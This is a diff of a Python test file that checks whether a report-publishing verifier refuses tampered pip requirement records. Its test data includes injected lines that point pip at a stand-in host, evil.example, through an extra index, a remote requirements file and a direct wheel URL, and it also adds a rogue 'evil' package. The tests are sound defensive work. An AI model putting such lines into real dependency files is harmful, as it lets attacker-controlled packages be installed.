@@ -6,7 +6,7 @@ import pytest
 
 from reports.errors import BundleError
 from reports.publishing.locked import LOCKS, Hashes, hashes_in, locked
-from tests.reports.publishing.bundles import files_of, small, summed, trusted, zipped
+from tests.reports.publishing.bundles import changed, files_of, small, trusted, zipped
 
 HASH = "0" * 64
 
@@ -49,29 +49,32 @@ def test_hashes_of_several_files_are_put_together() -> None:
     assert hashes_in([text.format("1" * 64), text.format("0" * 64)]) == {("a", "1"): ("0" * 64, "1" * 64)}
 
 
-def complaint(text: str) -> str:
-    files = files_of()
+def complaint(content: str | bytes) -> str:
+    text = content.encode() if isinstance(content, str) else content
     with pytest.raises(BundleError) as caught:
-        trusted(zipped(summed({**files, "environment.txt": text.encode()})))
+        trusted(changed(environment__txt=text))
     return str(caught.value)
 
 
 TRUE = files_of()["environment.txt"].decode()
+UNHEARD_OF, OTHERWISE = "neither a distribution nor a hash", "not what its record says was installed"
 LIES = {
-    "another index": f"--index-url https://evil.example/simple\n{TRUE}",
-    "an address": TRUE.replace("aiohttp==3.14.5", "aiohttp @ https://evil.example/a.whl"),
-    "another version": TRUE.replace("aiohttp==3.14.5", "aiohttp==3.14.4"),
-    "one more": f"{TRUE}evil==1 \\\n    --hash=sha256:{HASH}\n",
-    "one less": "\n".join(line for line in TRUE.splitlines() if "pip==" not in line) + "\n",
-    "a remark": f"{TRUE}# pip install evil\n",
-    "a hash of another kind": TRUE.replace("--hash=sha256:", "--hash=md5:", 1),
-    "an empty file": "",
+    "another index": (f"--index-url https://evil.example/simple\n{TRUE}", UNHEARD_OF),
+    "another file": (f"-r https://evil.example/more.txt\n{TRUE}", UNHEARD_OF),
+    "an address": (TRUE.replace("aiohttp==3.14.5", "aiohttp @ https://evil.example/a.whl"), UNHEARD_OF),
+    "a hash of another kind": (TRUE.replace("--hash=sha256:", "--hash=md5:", 1), UNHEARD_OF),
+    "no hash": ("aiohttp==3.14.5\n", UNHEARD_OF),
+    "no hash behind a line that goes on": ("aiohttp==3.14.5 \\\n# nothing\n", OTHERWISE),
+    "another version": (TRUE.replace("aiohttp==3.14.5", "aiohttp==3.14.4"), OTHERWISE),
+    "one more": (f"{TRUE}evil==1 \\\n    --hash=sha256:{HASH}\n", OTHERWISE),
+    "no text": (b"\xff", "is no text"),
 }
 
 
 @pytest.mark.parametrize("lie", LIES)
-def test_a_file_that_says_more_or_less_than_its_record_is_refused(lie: str) -> None:
-    assert "environment.txt is not what its record says was installed" in complaint(LIES[lie])
+def test_a_file_that_says_more_to_pip_than_its_record_is_refused(lie: str) -> None:
+    content, said = LIES[lie]
+    assert said in complaint(content)
 
 
 def test_hashes_that_a_lock_file_here_contradicts_are_refused() -> None:
@@ -81,7 +84,7 @@ def test_hashes_that_a_lock_file_here_contradicts_are_refused() -> None:
 
 def test_hashes_of_versions_that_no_lock_file_here_knows_are_kept() -> None:
     files = files_of(small(installed={"aiohttp": "0.0.9"}), hashes={("aiohttp", "0.0.9"): (HASH,)})
-    assert HASH.encode() in trusted(zipped(files)).environment
+    assert trusted(zipped(files)).hashes == {("aiohttp", "0.0.9"): (HASH,)}
 
 
 @pytest.mark.parametrize(
